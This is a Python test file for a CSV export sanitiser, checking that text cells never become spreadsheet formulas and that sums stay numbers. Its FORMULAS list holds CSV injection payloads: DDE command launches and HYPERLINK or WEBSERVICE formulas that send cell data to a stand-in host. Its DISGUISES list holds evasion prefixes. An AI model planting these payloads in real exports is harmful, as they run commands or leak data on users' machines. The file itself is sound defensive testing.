"""Row 26: no text becomes a formula in a spreadsheet, however it is disguised; sums stay numbers."""

from __future__ import annotations

import csv
import io
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.domain.csv_cell import cell, harmless, row

#: OWASP, «CSV Injection», and what its examples grew into.
FORMULAS = (
    "=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"тут")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML("http://x","//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=-1",
    "+-1",
    "--1",
    "=@SUM(A1)",
    '=""&A1',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+380671239874",
    "-96,00 повернення",
    "-",
    "=",
    "@",
)
#: What is put before a formula so that a check does not see it.
DISGUISES = (
    "",
    " ",
    "  ",
    "\u00a0",
    "\u2003",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    '""',
    "«",
    ' "',
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
    "\x1f",
    "\u2060",
    "`",
    "\u00ad",
    "\x85",
    "\u2028",
    "\u180e",
    "\u0301",
)
QUOTES = ' \u3000"`«»“”„'
WIDE = str.maketrans("=+-@", "＝＋－＠")


def opened(text: str, between: str = ";") -> list[list[str]]:
    """The file's cells as a spreadsheet takes them apart."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=between))


def runs(value: str) -> bool:
    """Whether a spreadsheet could run it: what it begins with once nothing invisible is left."""
    plain = unicodedata.normalize("NFKC", value)
    if plain[:1] in ("\t", "\r", "\n"):
        return True
    seen = "".join(sign for sign in plain if unicodedata.category(sign) not in ("Cc", "Cf", "Mn")).strip(
        ' \u3000"`«»“”„'
    )
    return seen[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("disguise", DISGUISES, ids=ascii)
def test_every_formula_of_the_list_is_text_whatever_stands_before_it(disguise: str) -> None:
    for formula in FORMULAS:
        for text in (disguise + formula, disguise + formula.translate(WIDE), (disguise + formula).center(40)):
            assert harmless(text).startswith("'"), ascii(text)
            (cells,) = opened(row(["Хліб", text, Decimal("-96.00")]))
            assert len(cells) == 3
            assert not runs(cells[1]), ascii(text)
            assert cells[1].startswith("'")


@given(st.text(max_size=60))
@example("a\n=1+1")
@example('x";=1+1;"')
@example("a;=1+1")
@example("\ud800=1")
def test_no_text_runs_ends_its_cell_or_its_line(text: str) -> None:
    made = row([text, "далі"])
    assert made.count("\r\n") == 1
    ((found, further),) = opened(made)
    assert further == "далі"
    assert not runs(found), ascii(found)
    assert not any(unicodedata.category(sign) in ("Cc", "Zl", "Zp") for sign in found)


@given(st.text(st.characters(categories=["L", "Nd", "Zs"]), max_size=40))
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (Decimal("1438.00"), "1438,00"),
        (Decimal("-96.00"), "-96,00"),
        (Decimal("0.00"), "0,00"),
        (Decimal("1E+3"), "1000"),
        (1043, "1043"),
        (-5, "-5"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers_with_a_comma(value: Decimal | int | None, said: str) -> None:
    assert cell(value) == said


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**9), max_value=10**9))
def test_every_sum_comes_back(value: Decimal) -> None:
    ((found,),) = opened(row([value]))
    assert Decimal(found.replace(",", ".")) == value
